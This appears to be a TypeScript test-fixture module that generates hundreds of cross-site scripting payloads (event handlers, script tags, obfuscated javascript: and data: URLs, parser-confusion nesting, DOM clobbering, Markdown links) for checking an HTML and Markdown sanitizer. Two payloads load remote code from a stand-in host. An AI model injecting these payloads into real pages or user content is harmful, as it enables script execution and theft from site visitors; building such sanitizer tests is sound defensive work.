/*
 * Pieces of HTML and Markdown written by somebody who wants a script to run in the page of a reader. Each runs `ACTE` when nothing
 * stops it, at once or when everything on the page is clicked.
 */

/** What a script that got in does. */
const ACTE = 'top.mal=1';

/** `groupe`: those of one group may stand in one page without hiding one another. */
export type Charge = { nom: string; groupe: string; texte: string };

/** Elements that fire an event by themselves, or at a click. */
const DECLENCHEURS: readonly [debut: string, evenement: string, fin?: string][] = [
	['img src=x', 'onerror'],
	['img src=x alt="a" title=b', 'onerror'],
	['img srcset="x 1x"', 'onerror'],
	['image src=x', 'onerror'],
	['video src=x', 'onerror', '</video>'],
	['video', 'onloadstart', '<source src=x></video>'],
	['audio src=x', 'onerror', '</audio>'],
	['object data=x', 'onerror', '</object>'],
	['script src=x', 'onerror', '</script>'],
	['link rel=stylesheet href=x', 'onerror'],
	['body', 'onload'],
	['svg', 'onload', '</svg>'],
	['svg xmlns="http://www.w3.org/2000/svg"', 'onload', '</svg>'],
	['iframe', 'onload', '</iframe>'],
	['style', 'onload', 'p{}</style>'],
	['input autofocus', 'onfocus'],
	['select autofocus', 'onfocus', '</select>'],
	['textarea autofocus', 'onfocus', '</textarea>'],
	['button autofocus', 'onfocus', 'a</button>'],
	['a href=# autofocus', 'onfocus', 'a</a>'],
	['p tabindex=1 autofocus', 'onfocus', 'a</p>'],
	['details open', 'ontoggle', '<summary>a</summary>b</details>'],
	['p', 'onclick', 'a</p>'],
	['a', 'onclick', 'a</a>'],
	['strong', 'onclick', 'a</strong>'],
	['span class=dehors', 'onclick', 'a</span>'],
	['table', 'onclick', '<tr><td>a</table>'],
	['marquee', 'onstart', 'a</marquee>'],
	['inconnu-total', 'onclick', 'a']
];

const ECRITURES: readonly ((debut: string, evenement: string) => string)[] = [
	(debut, evenement) => `<${debut} ${evenement}="${ACTE}">`,
	(debut, evenement) => `<${debut} ${evenement}='${ACTE}'>`,
	(debut, evenement) => `<${debut} ${evenement}=${ACTE}>`,
	(debut, evenement) => `<${debut.replace(/^\w+/, majuscules)} ${majuscules(evenement)}\n=\n"${ACTE}" x>`,
	(debut, evenement) => `<${debut}\t/${evenement}="${enEntites(ACTE)}"/>`
];

const majuscules = (texte: string) =>
	[...texte].map((lettre, rang) => (rang % 2 === 0 ? lettre.toUpperCase() : lettre)).join('');
const enEntites = (texte: string) => [...texte].map((lettre) => `&#${lettre.codePointAt(0)};`).join('');
const enHexa = (texte: string) =>
	[...texte].map((lettre) => `&#x${lettre.codePointAt(0)?.toString(16)}`).join('');

const gestionnaires: Charge[] = DECLENCHEURS.flatMap(([debut, evenement, fin = '']) =>
	ECRITURES.map((ecriture, rang) => ({
		nom: `${debut} ${evenement}, écriture ${rang + 1}`,
		groupe: `${debut} ${evenement}`,
		texte: ecriture(debut, evenement) + fin
	}))
);

const scripts: Charge[] = [
	`<script>${ACTE}</script>`,
	`<ScRiPt>${ACTE}</sCrIpT >`,
	`<script\n>${ACTE}</script\t\n bar>`,
	`<script/x>${ACTE}</script>`,
	`<script type=module>${ACTE}</script>`,
	`<script nonce="AAAA">${ACTE}</script>`,
	`<script src="data:text/javascript,${ACTE}"></script>`,
	`<script type=module src="data:text/javascript,${ACTE}"></script>`,
	`<script src="https://mal.exemple/x.js"></script>`,
	`<svg><script>${ACTE}</script></svg>`,
	`<svg><script href="data:text/javascript,${ACTE}"></script></svg>`,
	`<math><script>${ACTE}</script></math>`,
	`<scr<script>ipt>${ACTE}</scr</script>ipt>`,
	`<<script>${ACTE}//<</script>`,
	`<script>/*</p>*/${ACTE}</script>`,
	`<p><script>${ACTE}`,
	`<table><script>${ACTE}</script></table>`,
	`<select><script>${ACTE}</script></select>`,
	`<template><script>${ACTE}</script></template>`,
	`\u0000<script>${ACTE}</script>`
].map((texte, rang) => ({ nom: `script ${rang + 1}`, groupe: `script ${rang + 1}`, texte }));

/** Addresses that run something, in every writing that a browser reads as the plain one. */
const ADRESSES: readonly string[] = [
	`javascript:${ACTE}`,
	`JaVaScRiPt:${ACTE}`,
	` \u0001javascript:${ACTE}`,
	`java\tscript:${ACTE}`,
	`java\nscript:${ACTE}`,
	`java&Tab;script&colon;${ACTE}`,
	`${enEntites('javascript:')}${ACTE}`,
	`${enHexa('javascript')}:${ACTE}`,
	`javascript://%0a${ACTE}`,
	`javascript:/*https://exemple.fr*/${ACTE}`,
	`vbscript:${ACTE}`,
	`data:text/html,<script>${ACTE}</script>`,
	`data:text/html;base64,PHNjcmlwdD50b3AubWFsPTE8L3NjcmlwdD4=`,
	`data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='${ACTE}'/>`
];

const PORTEURS: readonly ((adresse: string) => string)[] = [
	(adresse) => `<a href="${adresse}">a</a>`,
	(adresse) => `<a href='${adresse}' rel=noreferrer target=_self>a</a>`,
	(adresse) => `<svg><a xlink:href="${adresse}"><text y=20>a</text></a></svg>`,
	(adresse) => `<math href="${adresse}">a</math>`,
	(adresse) => `<form action="${adresse}"><button>a</button></form>`,
	(adresse) => `<form id=f></form><button form=f formaction="${adresse}">a</button>`,
	(adresse) => `<iframe src="${adresse}"></iframe>`,
	(adresse) => `<object data="${adresse}"></object>`,
	(adresse) => `<embed src="${adresse}">`,
	(adresse) => `<map name=m><area href="${adresse}" shape=default></map>`,
	(adresse) => `<svg><use href="${adresse}#x"/></svg>`,
	(adresse) => `<svg><a><animate attributeName=href values="${adresse}"/><text y=20>a</text></a></svg>`
];

const adresses: Charge[] = PORTEURS.flatMap((porteur, i) =>
	ADRESSES.map((adresse, j) => ({
		nom: `adresse ${j + 1}, porteur ${i + 1}`,
		groupe: `porteur ${i + 1}`,
		texte: porteur(adresse)
	}))
);

/** What a reader takes for something else than the browser does. */
const emboites: Charge[] = [
	`<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${ACTE}&gt;">`,
	`<form><math><mtext></form><form><mglyph><style></math><img src onerror=${ACTE}>`,
	`<svg></p><style><a id="</style><img src=1 onerror=${ACTE}>">`,
	`<noscript><p title="</noscript><img src=x onerror=${ACTE}>">`,
	`<textarea><img title="</textarea><img src=x onerror=${ACTE}>"></textarea>`,
	`<title><a title="</title><img src=x onerror=${ACTE}>"></title>`,
	`<style><a title="</style><img src=x onerror=${ACTE}>"></style>`,
	`<xmp><a title="</xmp><img src=x onerror=${ACTE}>"></xmp>`,
	`<noembed><a title="</noembed><img src=x onerror=${ACTE}>"></noembed>`,
	`<iframe srcdoc="<script>${ACTE}</script>"></iframe>`,
	`<iframe srcdoc="&lt;img src=x onerror=${ACTE}&gt;"></iframe>`,
	`<!--><img src=x onerror=${ACTE}>-->`,
	`<!--a--!><img src=x onerror=${ACTE}>-->`,
	`<![CDATA[><img src=x onerror=${ACTE}>]]>`,
	`<?xml ><img src=x onerror=${ACTE}>?>`,
	`<!doctype a [<img src=x onerror=${ACTE}>]>`,
	`<a title="><img src=x onerror=${ACTE}>">a</a>`,
	`<a title='"><img src=x onerror=${ACTE}>'>a</a>`,
	`"><img src=x onerror=${ACTE}>`,
	`</p></div></main></body><img src=x onerror=${ACTE}>`,
	`<p${' '.repeat(500)}onclick=${ACTE}>a</p>`,
	`${'<p>'.repeat(100)}<img src=x onerror=${ACTE}>`,
	`<svg><animate onbegin=${ACTE} attributeName=x dur=1s>`,
	`<svg><foreignObject><img src=x onerror=${ACTE}></foreignObject></svg>`,
	`<svg><desc><style><img src=x onerror=${ACTE}></style></desc></svg>`,
	`<select><style></select><img src=x onerror=${ACTE}></style>`,
	`<option><style></option></select><img src=x onerror=${ACTE}></style>`,
	`<template shadowrootmode=open><img src=x onerror=${ACTE}></template>`,
	`<div><template shadowrootmode=open><script>${ACTE}</script></template></div>`,
	`<img src=x onerror\u00a0=${ACTE} onerror=${ACTE}>`,
	`<base href="javascript:/a/-${ACTE}///">`,
	`<meta http-equiv=refresh content="0;url=javascript:${ACTE}">`,
	`<meta http-equiv=Content-Security-Policy content="script-src *"><script>${ACTE}</script>`,
	`<link rel=preload as=script href="data:text/javascript,${ACTE}">`,
	`<link rel=import href="data:text/html,<script>${ACTE}</script>">`,
	`<p style="background:url(javascript:${ACTE})">a</p>`,
	`<p style="width:expression(${ACTE})">a</p>`,
	`<style>@import 'https://mal.exemple/x.css';@keyframes k{}p{animation:k}</style><p onanimationstart=${ACTE}>a</p>`,
	`<style>@keyframes k{from{top:0}}b{animation:k 1ms}</style><b onanimationstart=${ACTE}>a</b>`,
	`<a id=mal></a><a id=mal name=mal href=#></a>`,
	`<img name=body><img name=getElementById>`,
	`<form name=document><input name=cookie></form>`
].map((texte, rang) => ({ nom: `emboîtement ${rang + 1}`, groupe: `emboîtement ${rang + 1}`, texte }));

/** The same intentions in Markdown. */
const markdown: Charge[] = ADRESSES.flatMap((adresse, rang) => [
	{ nom: `lien Markdown ${rang + 1}`, groupe: 'Markdown', texte: `[a](<${adresse}>)` },
	{ nom: `lien nu ${rang + 1}`, groupe: 'Markdown', texte: `[a](${adresse.replaceAll(/\s/g, '')})` },
	{ nom: `référence ${rang + 1}`, groupe: 'Markdown', texte: `[a][b]\n\n[b]: <${adresse}>` },
	{
		nom: `image Markdown ${rang + 1}`,
		groupe: 'Markdown',
		texte: `![a" onerror="${ACTE}](<${adresse}> "x' onerror=${ACTE}")`
	},
	{ nom: `adresse nue ${rang + 1}`, groupe: 'Markdown', texte: `<${adresse}>` }
]);

/** Those that run by themselves when nothing stops them: they prove that the others are looked at as they should be. */
export const CHARGES_VIVES: readonly Charge[] = [...gestionnaires, ...scripts];

export const CHARGES_HTML: readonly Charge[] = [...CHARGES_VIVES, ...adresses, ...emboites];

export const CHARGES_MARKDOWN: readonly Charge[] = [...CHARGES_HTML, ...markdown];
